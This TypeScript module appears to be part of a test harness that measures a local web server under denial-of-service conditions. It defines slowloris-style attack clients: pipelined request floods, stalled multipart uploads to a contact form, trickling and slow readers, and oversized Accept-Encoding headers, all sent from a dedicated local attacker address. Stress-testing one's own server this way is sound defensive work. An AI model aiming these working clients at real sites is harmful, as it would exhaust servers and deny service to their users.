import { connect, type Socket } from 'node:net';
import { FILM, LARGE_ZIP } from '../large-files.ts';

/** All attackers have this address; the measuring visitors have others. */
export const ATTACKER = '127.0.0.2';
const CONTACT = '/api/form_entries/contact_us';
/** Pause before a connection that was closed is opened again, in milliseconds. */
const AGAIN_MS = 5000;
const CLOSED_MS = 20;

type Open = (options?: { readsAtATime?: number }) => Socket;
type Attack = (open: Open) => void;

/** Keeps connections open: each that ends is opened again. begin: sends what the connection is for. */
function keep(count: number, open: () => Socket, begin: (socket: Socket) => void, againMs = AGAIN_MS): void {
  for (let i = 0; i < count; i++) {
    const start = () => {
      const socket = open();
      const timers: ReturnType<typeof setInterval>[] = [];
      timersOf.set(socket, timers);
      socket.on('error', () => {});
      socket.once('connect', () => begin(socket));
      socket.once('close', () => {
        for (const timer of timers) clearInterval(timer);
        setTimeout(start, againMs);
      });
    };
    start();
  }
}
const timersOf = new WeakMap<Socket, ReturnType<typeof setInterval>[]>();
const every = (ms: number, socket: Socket, task: () => void) => void timersOf.get(socket)?.push(setInterval(task, ms));

const get = (path: string, more = '') => `GET ${path} HTTP/1.1\r\nHost: a\r\n${more}\r\n`;
const upload = (bytes: number) =>
  `POST ${CONTACT} HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: ${bytes}\r\n\r\n`;
const field = (name: string, text: string) =>
  `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`;
const FILE_HEAD =
  '--b\r\nContent-Disposition: form-data; name="attachments[]"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n';

/** Reads a few bytes a second: half of the connections less than any network, the other half a little more. */
function trickle(count: number, path: string): Attack {
  return (open) => {
    let n = 0;
    keep(
      count,
      () => open({ readsAtATime: n++ % 2 === 0 ? 512 : 4096 }),
      (socket) => {
        socket.write(get(path));
        every(1000, socket, () => socket.resume());
      },
    );
  };
}

/** What one client does, by name. Each goes on until the process is killed. */
export const attacks: Record<string, Attack> = {
  // for comparison
  'no attack': () => void setInterval(() => {}, 1000),
  'pipelined requests': (open) => {
    const row = Buffer.from(get('/').repeat(400_000));
    keep(
      1,
      open,
      (socket) => {
        socket.pause();
        socket.write(row);
      },
      CLOSED_MS,
    );
  },
  'unfinished uploads of text': (open) => {
    const fields = Array.from({ length: 46 }, (_, i) => field(`f${i}`, `ł${'a'.repeat(40_000)}`)).join('');
    const bytes = Buffer.from(upload(30_000_000) + fields);
    keep(320, open, (socket) => {
      socket.resume();
      socket.write(bytes);
    });
  },
  'stalled uploads of files': (open) => {
    const bytes = Buffer.concat([Buffer.from(upload(30_000_000) + FILE_HEAD), Buffer.alloc(9_500_000)]);
    keep(40, open, (socket) => {
      socket.resume();
      socket.write(bytes);
      every(20_000, socket, () => socket.write('a'));
    });
  },
  'trickling readers of a ZIP': trickle(140, LARGE_ZIP),
  'trickling readers of a film': trickle(64, FILM),
  'Accept-Encoding of 16 kB': (open) => {
    const request = get('/', `Accept-Encoding: ${','.repeat(15_900)}\r\n`);
    keep(
      8,
      open,
      (socket) => {
        socket.on('data', () => socket.write(request));
        socket.write(request);
      },
      CLOSED_MS,
    );
  },
  'slow readers of pages': (open) =>
    keep(
      1800,
      () => open({ readsAtATime: 64 }),
      (socket) => {
        socket.write(get('/').repeat(10));
        every(1000, socket, () => socket.resume());
      },
    ),
};

/** Opens connections to the site from the attacker's address. readsAtATime: bytes that are read, then it pauses. */
export function createOpen(base: string): Open {
  const to = { host: '127.0.0.1', port: Number(new URL(base).port), localAddress: ATTACKER };
  return ({ readsAtATime } = {}) =>
    connect(
      readsAtATime === undefined
        ? to
        : { ...to, onread: { buffer: Buffer.alloc(readsAtATime), callback: () => false } },
    );
}
